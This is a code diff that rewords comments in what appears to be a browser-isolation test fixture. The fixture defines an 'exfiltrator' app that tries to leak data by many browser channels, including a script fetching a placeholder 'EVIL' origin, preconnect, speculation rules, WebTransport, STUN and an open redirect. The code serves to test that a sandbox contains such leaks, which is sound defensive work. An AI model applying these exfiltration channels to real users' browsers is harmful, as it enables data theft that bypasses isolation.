@@ -2,7 +2,7 @@ import type { AppFiles } from '../write-app.ts';
 import type { Listeners } from './listeners.ts';
 
 /**
- * Ways out that leave the document where it is: all are tried by one document, which then says `tried`. It also tries
+ * Ways to leak that keep the document: one document tries all, then reports `tried`. It also tries
  * preconnect and speculation rules, which plain frames of a private window do not get either.
  */
 export const quietWays = [
@@ -42,7 +42,10 @@ export const quietWays = [
   'quic', // WebTransport
 ] as const;
 
-/** Ways out by which the document leaves, and what each comes to: the frame shows an error page, or the document says why not. */
+/**
+ * Ways to leak by navigation, with the outcome of each: an error page in the frame, or the
+ * document's reason.
+ */
 export const leavingWays = {
   assign: 'left',
   replace: 'left',
@@ -58,7 +61,7 @@ export const leavingWays = {
   'link-top': 'stayed',
 } as const;
 
-/** An app that knows something and wants others to know it, by every way that browsers have. */
+/** An app that tries to leak data by every means of browsers. */
 export function exfiltrator({ origin, stunPort, quicPort }: Listeners): AppFiles {
   const fill = (text: string) =>
     text.replaceAll('EVIL', origin).replaceAll('STUN', String(stunPort)).replaceAll('QUIC', String(quicPort));
@@ -76,7 +79,8 @@ export function exfiltrator({ origin, stunPort, quicPort }: Listeners): AppFiles
   };
 }
 
-// Every app learns the address of the site, which it may load pictures from. This one found a page there that sends visitors on.
+// Every app knows the site's address, which its images may load from. This app found an open
+// redirect there.
 const ownSite = "const site = decodeURIComponent(location.hash.replace(/^#gantry=1\\.\\w+\\./, ''));";
 
 const quietPage = `<!doctype html><html lang="en"><title>Quiet</title>
@@ -101,7 +105,7 @@ const element = (name, attributes) => settle((end) => {
 });
 const send = (path) => "<script>fetch('EVIL" + path + "', { mode: 'no-cors' })<\\/script>";
 const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
-// Some elements of some browsers never say that they were refused.
+// Some elements fire no event when they are blocked.
 const soon = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, 1500))]);
 ${ownSite}
 addEventListener('load', async () => {
